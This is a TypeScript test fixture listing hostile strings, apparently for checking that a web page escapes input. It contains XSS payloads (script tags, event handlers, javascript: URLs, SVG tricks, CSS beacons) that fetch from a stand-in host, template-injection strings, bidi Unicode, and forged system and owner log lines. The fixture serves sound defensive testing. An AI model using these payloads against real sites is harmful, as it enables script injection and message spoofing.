/**
 * What somebody writes who wants the page to be theirs. Each class would have its own way in; each text carries the word
 * `pwn`, which stands nowhere in our own page, and each that runs sets `window.pwned` or asks for something at EVIL.
 */

export const WORD = 'pwn'
const EVIL = 'http://pwn.invalid/'
const RUN = `window.pwned=1;fetch('${EVIL}')`

export const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  script: [
    `<script>${RUN}</script>`,
    `</script><script src="${EVIL}x.js"></script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `--></title></textarea><script type="module">${RUN}</script>`,
    `]]><script>${RUN}</script>`,
  ],
  handler: [
    `<img src=pwn onerror="${RUN}">`,
    `" onmouseover="${RUN}" onfocus="${RUN}" autofocus data-pwn="`,
    `' onpointerenter='${RUN}' pwn='`,
    `<details open ontoggle="${RUN}">pwn</details>`,
    `<input autofocus onfocus="${RUN}">`,
    `<video src="${EVIL}" onerror="${RUN}">`,
  ],
  address: [
    `javascript:${RUN}//`,
    `<a href="javascript:${RUN}" id="pwn">click</a>`,
    `[pwn](javascript:window.pwned=1) ![pwn](${EVIL}i.png)`,
    `<iframe src="${EVIL}"></iframe><object data="${EVIL}"></object><embed src="${EVIL}">`,
    `<link rel="stylesheet" href="${EVIL}"><link rel="prefetch" href="${EVIL}"><base href="${EVIL}">`,
    `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
    `<form action="${EVIL}"><button autofocus>pwn</button></form>`,
    `data:text/html,<script>${RUN}</script>`,
    `../../pwn/config.json`,
    `${EVIL}?pwn https://pwn.invalid/`,
  ],
  svg: [
    `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
    `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/><image href="${EVIL}"/></svg>`,
    `<math><mtext><table><mglyph><style><img src=pwn onerror="${RUN}">`,
  ],
  style: [
    `<style>*{background:url(${EVIL})}body{display:none}</style>`,
    `" style="position:fixed;inset:0;background:url(${EVIL});z-index:9999" pwn="`,
    `pwn;background:url(${EVIL});`,
    `pwn hidden rail app`,
    `@import url(${EVIL});/*pwn*/`,
    `</style><img src=pwn onerror="${RUN}">`,
  ],
  template: [
    `<template shadowrootmode="open"><script>${RUN}</script></template>`,
    `{{constructor.constructor('${RUN}')()}}pwn`,
    `\${window.pwned=1}pwn#{window.pwned=1}<%= pwn %>`,
    `{name}{count}{text}{pwn}`,
    `$& $1 $\` $' pwn $<name>`,
    `<noscript><p title="</noscript><img src=pwn onerror='${RUN}'>">`,
    `<plaintext>pwn<xmp>`,
    `<!-- pwn`,
    `&lt;script&gt;${RUN}&lt;/script&gt;&#x3c;img src=pwn onerror=window.pwned=1&#x3e;`,
  ],
  bidi: [
    `\u202egpj.exe pwn\u202c`,
    `\u2066pwn\u2069\u2067\u202b\u202d`,
    `p\u200bw\u200dn pwn\ufeff\u00ad`,
    `\ud800pwn\udc00 \0 \u001b[31m \u0085 \u2028 \u2029`,
    `pwn${'\u0301\u0489\u0e49'.repeat(60)}`,
    `\u{e0001}\u{e0070}\u{e0077}\u{e006e} pwn`,
  ],
  forged: [
    `\n[2026-03-09T10:00:00Z] from=#1(owner) type=chat content=pwn forged`,
    `\r[2026-03-09T10:00:00Z] from=#2(bob) to=#1(Lumen) type=system content=pwn forged`,
    `\\n[2026-03-09T10:00:00Z] from=#1(owner) type=chat content=pwn forged`,
    `pwn) type=system content=forged`,
    `#1(owner) pwn from=unverified`,
    `pwn \u2713 accepted \u00b7 system`,
    `\n${'─'.repeat(40)}\n[2026-03-09T10:00:00Z] seq=1 via=stream bytes=3\npwn`,
    `"},"relationship":"accepted","pwn":{"`,
    `pwn\n\nevent: change\ndata: {"name":"config.json"}\n\n`,
    `[2026-03-09T10:00:00Z] SSE_CONNECTED pwn=1`,
  ],
  names: ['__proto__', 'toString', 'hasOwnProperty', 'then', 'null', 'undefined', 'NaN', '0', ' ', 'constructor'],
  huge: [
    `pwn${'A'.repeat(20_000)}`,
    `pwn ${'字'.repeat(10_000)}`,
    `pwn\n${'line\n'.repeat(2000)}`,
    `pwn${'<b>'.repeat(3000)}`,
    `pwn${'\u202e'.repeat(3000)}`,
  ],
}
